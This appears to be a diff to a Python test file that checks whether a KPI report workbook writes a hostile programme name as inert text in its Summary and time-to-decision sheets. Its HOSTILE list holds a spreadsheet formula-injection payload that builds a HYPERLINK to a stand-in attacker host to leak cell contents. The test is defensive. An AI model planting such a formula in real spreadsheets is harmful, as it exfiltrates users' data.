@@ -24,6 +24,7 @@ from passerelle.cli.report_workbook import write_report
 from passerelle.cli.workbooks import Sheet, csv_text, write_xlsx
 from passerelle.intake.sheets import Cell, open_table
 from schemas import HistoryEntry, KpiFilters, KpiReport, Stage
+from schemas.kpis import PilotKpi
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -86,11 +87,16 @@ def test_the_report_workbook_names_a_hostile_programme_as_text(tmp_path: Path) -
     programme = HOSTILE[0]
     report = KpiReport(filters=KpiFilters(programme=programme), collaborations=0, open=0, stalled=0,
                        stalled_ratio=None, deployed=0, declined=0, abandoned=0,
-                       conversion_introduction_pilot=None, conversion_pilot_deployed=None, stages=[])  # fmt: skip
+                       conversion_introduction_pilot=None, conversion_pilot_deployed=None, stages=[],
+                       pilot_times=[PilotKpi(programme=programme, reached_pilot=0, poc_median_days=None,
+                                             poc_p90_days=None, decided=0, open=0, decision_median_days=None,
+                                             decision_p90_days=None, days_to_poc=[],
+                                             days_pilot_to_decision=[])])  # fmt: skip
     path = tmp_path / "report.xlsx"
     write_report(report, path)
-    cell = load_workbook(path)["Summary"]["B2"]
-    assert (cell.data_type, cell.value) == ("s", programme)
+    book = load_workbook(path)
+    for cell in (book["Summary"]["B2"], book["Time to PoC and to decision"]["A2"]):
+        assert (cell.data_type, cell.value) == ("s", programme)
 
 
 @PROFILE
